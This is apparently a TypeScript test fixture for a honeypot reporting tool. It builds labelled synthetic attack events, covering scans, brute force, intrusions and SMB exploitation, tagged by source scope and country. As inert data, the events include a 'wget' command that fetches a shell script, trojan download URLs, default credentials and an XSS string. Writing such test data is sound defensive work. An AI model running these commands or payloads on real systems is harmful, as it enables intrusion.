// A labelled scenario for report tests: internal and external sources, every activity type, several
// sensors and months, an ignored host and an unlisted private one, with each event's incident and kind.
import { join } from 'node:path';
import { SqliteStore } from '../../src/store/sqlite/sqlite-store.js';
import { writeConfig } from './apiary-process.js';
import { makeEvent, type EventSpec } from './events.js';

export type Kind = 'scan' | 'brute_force' | 'intrusion' | 'exploitation' | 'malware_propagation';
export type Scope = 'external' | 'internal' | 'private';

/** One labelled source: its scope and country as the config makes them. */
export const SOURCES: Record<string, { scope: Scope; country: string | null; ignored?: boolean }> = {
  '185.10.0.1': { scope: 'external', country: 'FI' },
  '185.10.0.2': { scope: 'external', country: 'FI' },
  '185.20.0.1': { scope: 'external', country: 'US' },
  '185.30.0.1': { scope: 'external', country: 'RU' },
  '185.40.0.1': { scope: 'external', country: 'UA' },
  '10.20.1.5': { scope: 'internal', country: null },
  '10.20.1.6': { scope: 'internal', country: null },
  '192.168.7.7': { scope: 'private', country: null },
  '10.99.0.1': { scope: 'internal', country: null, ignored: true },
};

/** Groups of each country at a date, written out by hand from the accession dates. */
export function groupsAt(country: string | null, time: string): string[] {
  if (country === null) return ['unlocated'];
  const y = time.slice(0, 10);
  switch (country) {
    case 'FI':
      return y >= '2023-04-04' ? ['nato', 'eu'] : y >= '2022-05-18' ? ['nato-candidate', 'nato-partner', 'eu', 'non-nato'] : ['nato-partner', 'eu', 'non-nato'];
    case 'US':
      return ['nato'];
    case 'RU':
      return y < '2014-04-01' ? ['nato-partner', 'non-nato'] : ['non-nato'];
    case 'UA':
      return ['nato-candidate', 'nato-partner', 'non-nato'];
    default:
      throw new Error(country);
  }
}

export interface Labelled {
  spec: EventSpec;
  /** Which incident the event belongs to, and that incident's kind. */
  incident: string;
  kind: Kind;
}

export const SHA_A = 'a'.repeat(64);
export const SHA_B = 'b'.repeat(64);

export function scenario(): Labelled[] {
  const L: Labelled[] = [];
  const add = (incident: string, kind: Kind, spec: EventSpec): void => void L.push({ spec, incident, kind });
  const open = (src: string, time: string, extra: Partial<EventSpec> = {}): EventSpec => ({ type: 'connection.open', time, src, payload: { transport: 'tcp' }, ...extra });
  const fail = (src: string, time: string, username: string, password: string): EventSpec => ({ type: 'auth.attempt', time, src, payload: { method: 'password', username, password, success: false } });
  // Finland 2019 (non-NATO then): a scan of a port nothing serves, and an SSH connection.
  add('fi-2019', 'scan', open('185.10.0.1', '2019-05-03T10:00:00Z', { protocol: 'tcp', dst_port: 8080, sensor: 'sensor-b' }));
  add('fi-2019', 'scan', { type: 'scan.probe', time: '2019-05-03T10:00:01Z', src: '185.10.0.1', protocol: 'tcp', dst_port: 8080, sensor: 'sensor-b', payload: { first_bytes_hex: '474554' } });
  add('fi-2019', 'scan', { type: 'scan.probe', time: '2019-05-03T10:00:02Z', src: '185.10.0.1', protocol: 'tcp', dst_port: 5900, sensor: 'sensor-b', payload: { first_bytes_hex: '' } });
  // Russia 2019: exploitation over HTTP.
  add('ru-2019', 'exploitation', open('185.30.0.1', '2019-05-10T00:00:00Z', { protocol: 'http', dst_port: 80 }));
  add('ru-2019', 'exploitation', { type: 'exploit.attempt', time: '2019-05-10T00:00:01Z', src: '185.30.0.1', protocol: 'http', dst_port: 80, payload: { name: 'shellshock', cve: 'CVE-2014-6271' } });
  // Internal host: SMB exploitation (MS08-067) on two sensors in May 2024: malware propagation.
  add('int-5', 'malware_propagation', open('10.20.1.5', '2024-05-20T08:00:00Z', { protocol: 'smb', dst_port: 445, sensor: 'sensor-a' }));
  add('int-5', 'malware_propagation', { type: 'exploit.attempt', time: '2024-05-20T08:00:01Z', src: '10.20.1.5', protocol: 'smb', dst_port: 445, sensor: 'sensor-a', payload: { name: 'ms08-067', cve: 'CVE-2008-4250' } });
  add('int-5', 'malware_propagation', open('10.20.1.5', '2024-05-20T08:05:00Z', { protocol: 'smb', dst_port: 445, sensor: 'sensor-b' }));
  add('int-5', 'malware_propagation', { type: 'file.download', time: '2024-05-20T08:05:02Z', src: '10.20.1.5', protocol: 'smb', dst_port: 445, sensor: 'sensor-b', payload: { url: 'http://185.20.0.1/trojan.exe', sha256: SHA_A, md5: 'c'.repeat(32), size: 73_802, outcome: 'stored' } });
  // Finland 2024 (NATO): brute force, then after a quiet gap a second incident that only connects.
  add('fi-2024', 'brute_force', open('185.10.0.2', '2024-06-01T12:00:00Z'));
  add('fi-2024', 'brute_force', fail('185.10.0.2', '2024-06-01T12:00:01Z', 'root', '123456'));
  add('fi-2024', 'brute_force', fail('185.10.0.2', '2024-06-01T12:00:02Z', 'root', '123456'));
  add('fi-2024', 'brute_force', fail('185.10.0.2', '2024-06-01T12:00:03Z', 'admin', '<script>alert(1)</script>'));
  add('fi-2024b', 'scan', open('185.10.0.2', '2024-06-01T14:30:00Z'));
  // US 2024: intrusion (login, commands, a download).
  add('us-2024', 'intrusion', open('185.20.0.1', '2024-06-02T00:00:00Z', { sensor: 'sensor-b' }));
  add('us-2024', 'intrusion', { type: 'auth.attempt', time: '2024-06-02T00:00:01Z', src: '185.20.0.1', sensor: 'sensor-b', payload: { method: 'password', username: 'root', password: 'toor', success: true } });
  add('us-2024', 'intrusion', { type: 'command.input', time: '2024-06-02T00:00:02Z', src: '185.20.0.1', sensor: 'sensor-b', payload: { input: 'uname -a' } });
  add('us-2024', 'intrusion', { type: 'command.input', time: '2024-06-02T00:00:03Z', src: '185.20.0.1', sensor: 'sensor-b', payload: { input: 'uname -a' } });
  add('us-2024', 'intrusion', { type: 'command.input', time: '2024-06-02T00:00:04Z', src: '185.20.0.1', sensor: 'sensor-b', payload: { input: 'wget http://8.8.8.8/m.sh' } });
  add('us-2024', 'intrusion', { type: 'file.download', time: '2024-06-02T00:00:05Z', src: '185.20.0.1', sensor: 'sensor-b', payload: { url: 'http://8.8.8.8/m.sh', sha256: SHA_B, size: 120, outcome: 'stored' } });
  // Ukraine 2024: exploit plus payload over SMB: malware propagation (external).
  add('ua-2024', 'malware_propagation', open('185.40.0.1', '2024-06-03T00:00:00Z', { protocol: 'smb', dst_port: 445 }));
  add('ua-2024', 'malware_propagation', { type: 'exploit.attempt', time: '2024-06-03T00:00:01Z', src: '185.40.0.1', protocol: 'smb', dst_port: 445, payload: { name: 'ms17-010' } });
  add('ua-2024', 'malware_propagation', { type: 'file.download', time: '2024-06-03T00:00:02Z', src: '185.40.0.1', protocol: 'smb', dst_port: 445, payload: { url: 'http://185.20.0.1/trojan.exe', sha256: SHA_A, size: 73_802, outcome: 'duplicate' } });
  // Second internal host: a scan of the MySQL service.
  add('int-6', 'scan', open('10.20.1.6', '2024-06-04T00:00:00Z', { protocol: 'mysql', dst_port: 3306 }));
  // A private address nobody listed: its own scope.
  add('priv', 'scan', open('192.168.7.7', '2024-06-05T00:00:00Z'));
  // The operators' own test host: left out of every count.
  add('ignored', 'brute_force', open('10.99.0.1', '2024-06-05T01:00:00Z'));
  add('ignored', 'brute_force', fail('10.99.0.1', '2024-06-05T01:00:01Z', 'root', 'x'));
  add('ignored', 'brute_force', fail('10.99.0.1', '2024-06-05T01:00:02Z', 'root', 'y'));
  return L;
}


export const SCENARIO_CONFIG = {
  sensor: 'report-test',
  networks: { internal: ['10.20.0.0/16', '10.99.0.0/16'], ignore: ['10.99.0.0/16'] },
  geoip: {
    overrides: [
      { cidr: '185.10.0.0/16', country: 'FI', asn: 64500 },
      { cidr: '185.20.0.0/16', country: 'US' },
      { cidr: '185.30.0.0/16', country: 'RU' },
      { cidr: '185.40.0.0/16', country: 'UA' },
    ],
  },
  incidents: { quiet_gap_s: 3600 },
};

/** Stores the scenario in DIR's store; returns the config path and the labelled events. */
export async function writeScenario(dir: string): Promise<{ configPath: string; labelled: Labelled[] }> {
  const configPath = writeConfig(dir, SCENARIO_CONFIG);
  const labelled = scenario();
  const store = new SqliteStore(join(dir, 'data', 'apiary.db'));
  await store.insertBatch(labelled.map((l) => makeEvent(l.spec)));
  await store.close();
  return { configPath, labelled };
}
